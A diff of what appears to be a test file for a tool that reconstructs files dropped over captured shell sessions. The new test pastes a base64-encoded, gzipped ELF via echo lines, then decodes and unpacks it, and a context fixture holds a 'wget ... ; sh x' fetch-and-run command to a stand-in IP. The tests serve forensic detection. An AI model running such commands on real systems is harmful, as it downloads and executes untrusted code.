@@ -170,6 +170,15 @@ def test_pasted_in_two_steps(tmp_path):
     assert sorted(have) == sorted([whole('k', ELF), whole('k.b64', b''.join(piece + b'\n' for piece in B64))])
 
 
+def test_undone_by_a_line_alone(tmp_path):
+    """No redirection is in the line that undoes it."""
+    packed = gzip.compress(ELF, mtime=0)
+    lines = [b'echo %s >> k.b64' % piece for piece in pieces(base64.b64encode(packed), 76)]
+    lines += [b'openssl base64 -d -in k.b64 -out k.gz', b'gunzip k.gz']
+    have = files(replay_packets(tmp_path, talk(typed(*lines), 40000, 23)))
+    assert whole('k.gz', packed) in have and whole('k', ELF) in have
+
+
 def test_pasted_into_a_shell(tmp_path):
     """No file is named: what is run is told."""
     script = b'#!/bin/sh\nwget http://198.51.100.1/x; sh x\n'
